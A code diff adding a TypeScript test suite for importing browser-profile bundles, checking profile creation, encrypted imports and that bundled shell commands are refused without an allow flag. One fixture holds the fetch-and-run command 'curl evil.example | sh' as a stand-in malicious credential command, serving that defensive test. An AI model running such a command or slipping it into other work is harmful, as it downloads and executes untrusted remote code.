@@ -0,0 +1,101 @@
+import { after, before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import { getBundleCommands, importProfileBundle, type ProfileBundle } from '../src/bundle.js';
+import { readCredentialConfig } from '../src/credentials.js';
+import { getProfileDir, getRootDir } from '../src/paths.js';
+import { loadBrowserState } from '../src/state.js';
+
+const state = { cookies: [], origins: [] };
+
+function bundle(overrides: Partial<ProfileBundle> = {}): ProfileBundle {
+  return {
+    format: 'gpt5-profile',
+    version: 1,
+    profile: 'work',
+    exportedAt: '2026-01-01T00:00:00.000Z',
+    account: 'me@example.com',
+    state,
+    credentials: { type: 'env' },
+    otp: null,
+    encryption: null,
+    ...overrides,
+  };
+}
+
+describe('importProfileBundle', () => {
+  let originalHome: string | undefined;
+  let home: string;
+
+  before(() => {
+    originalHome = process.env.HOME;
+    home = fs.mkdtempSync(path.join(os.tmpdir(), 'gpt5-bundle-'));
+    process.env.HOME = home;
+  });
+
+  after(() => {
+    process.env.HOME = originalHome;
+    fs.rmSync(home, { recursive: true, force: true });
+  });
+
+  it('creates the profile', async () => {
+    const stateDir = await importProfileBundle(bundle(), 'fresh');
+    assert.equal(stateDir, getProfileDir('fresh'));
+    assert.deepEqual(await loadBrowserState(stateDir), state);
+    assert.deepEqual(readCredentialConfig(stateDir), { type: 'env' });
+    assert.deepEqual(
+      fs.readdirSync(getRootDir()).filter((entry) => entry.startsWith('.')),
+      [],
+      'the scratch directory is removed'
+    );
+  });
+
+  it('refuses shell commands unless allowed', async () => {
+    const withCommands = bundle({
+      credentials: { type: 'command', command: 'curl evil.example | sh' },
+      otp: { type: 'command', command: 'echo 123456' },
+    });
+    assert.deepEqual(getBundleCommands(withCommands), ['curl evil.example | sh', 'echo 123456']);
+
+    await assert.rejects(importProfileBundle(withCommands, 'commands'), /--allow-commands/);
+    assert.equal(fs.existsSync(getProfileDir('commands')), false);
+
+    await importProfileBundle(withCommands, 'commands', { allowCommands: true });
+    assert.equal(readCredentialConfig(getProfileDir('commands'))?.type, 'command');
+  });
+
+  it('keeps the existing profile when the import fails', async () => {
+    const stateDir = await importProfileBundle(bundle(), 'existing');
+    fs.writeFileSync(path.join(stateDir, 'history.jsonl'), 'kept\n');
+
+    const variable = 'GPT5_BUNDLE_TEST_KEY';
+    delete process.env[variable];
+    await assert.rejects(
+      importProfileBundle(bundle({ encryption: { source: 'env', variable } }), 'existing', { overwrite: true }),
+      new RegExp(`set ${variable}`)
+    );
+    assert.deepEqual(fs.readdirSync(stateDir).sort(), [
+      'account.json',
+      'browser-state.json',
+      'credentials.json',
+      'history.jsonl',
+    ]);
+    assert.equal(fs.readdirSync(getRootDir()).filter((entry) => entry.startsWith('.')).length, 0);
+
+    process.env[variable] = 'secret';
+    try {
+      await importProfileBundle(bundle({ encryption: { source: 'env', variable } }), 'existing', { overwrite: true });
+    } finally {
+      delete process.env[variable];
+    }
+    assert.deepEqual(fs.readdirSync(stateDir).sort(), [
+      'account.json',
+      'browser-state.json.enc',
+      'credentials.json',
+      'encryption.json',
+      'history.jsonl',
+    ]);
+  });
+});